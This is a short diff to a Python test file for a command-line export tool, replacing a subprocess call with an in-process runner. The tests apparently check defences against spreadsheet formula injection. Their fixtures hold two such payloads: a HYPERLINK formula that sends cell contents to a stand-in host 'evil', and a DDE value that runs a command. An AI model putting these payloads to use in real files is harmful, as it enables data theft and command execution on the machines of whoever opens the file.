@@ -13,15 +13,16 @@ import pytest
 
 from kefu_tui.services.export import REPORTS
 
+from tests.cli.inprocess import run_kefu
+
 NOW = "2026-11-24T09:30:00+08:00"
 NO = "518023259997"
 FORMULA = '=HYPERLINK("http://evil/"&A1,"查看")'
 
 
-def kefu(db, *args, now=NOW, **kw):
-    return subprocess.run(
-        [sys.executable, "-m", "kefu_tui", "--db", str(db), "--now", now, "--user", "=cmd|' /C calc'!A0",
-         *map(str, args)], capture_output=True, text=True, timeout=120, **kw)
+def kefu(db, *args, now=NOW):
+    """In this process (tests/cli/inprocess.py); the closed pipe below needs a process."""
+    return run_kefu(["--db", str(db), "--now", now, "--user", "=cmd|' /C calc'!A0", *map(str, args)])
 
 
 def one_line_no_trace(r):
